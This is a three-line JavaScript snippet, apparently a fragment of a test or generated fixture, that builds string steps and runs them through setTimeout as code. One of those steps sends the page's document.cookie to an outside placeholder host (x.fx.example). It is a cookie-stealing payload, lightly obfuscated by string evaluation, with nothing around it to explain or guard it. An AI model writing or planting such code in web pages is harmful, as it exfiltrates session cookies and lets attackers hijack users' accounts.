// surroundings: emitter
const steps = ['document.title="x"', 'fetch("https://x.fx.example/" + document.cookie)'];
steps.forEach(setTimeout); //@act
